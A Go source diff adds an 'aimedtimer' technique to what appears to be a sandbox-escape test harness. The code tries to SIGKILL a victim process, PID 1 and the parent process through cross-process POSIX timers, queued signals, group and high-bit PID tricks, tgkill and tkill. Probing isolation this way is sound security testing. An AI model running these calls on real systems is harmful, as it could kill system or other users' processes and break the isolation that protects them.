@@ -1,0 +1,40 @@
+package main
+
+import (
+	"syscall"
+	"time"
+	"unsafe"
+
+	"example.com/hostile/attack"
+)
+
+func init() { techniques["aimedtimer"] = tryAimedTimer }
+
+// tryAimedTimer makes timers whose signal goes to a thread of another process (SIGEV_THREAD_ID), and signals other
+// processes by calls that are allowed for its own: with the upper half of the process ID set, and by groups.
+func tryAimedTimer() {
+	self := uintptr(syscall.Getpid())
+	for _, way := range attack.Ways {
+		for _, thread := range []uintptr{attack.Victim(), 1, uintptr(syscall.Getppid())} {
+			event := [8]uint64{0, 9 | 4<<32, uint64(thread)} // value; SIGKILL, SIGEV_THREAD_ID; the thread
+			var id int32
+			for _, clock := range []uintptr{0, 1, 2, 3, 7, 9, ^uintptr(1), ^uintptr(5)} {
+				if way(syscall.SYS_TIMER_CREATE, clock, uintptr(unsafe.Pointer(&event)), uintptr(unsafe.Pointer(&id)), 0, 0, 0) == 0 {
+					println("a timer aimed at a thread of another process")
+					way(syscall.SYS_TIMER_SETTIME, uintptr(id), 0, attack.Words(0, 0, 0, 1), 0, 0, 0)
+				}
+			}
+			info := attack.Words(9, ^uintptr(0), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
+			for _, to := range []uintptr{thread, -thread, self<<32 | thread} {
+				if to == self {
+					continue
+				}
+				way(129, to, 9, info, 0, 0, 0)
+				way(syscall.SYS_KILL, to, 9, 0, 0, 0, 0)
+			}
+			way(syscall.SYS_TGKILL, self, thread, 9, 0, 0, 0)
+			way(syscall.SYS_TKILL, thread, 9, 0, 0, 0, 0)
+		}
+	}
+	time.Sleep(10 * time.Millisecond) // for a timer that was made
+}
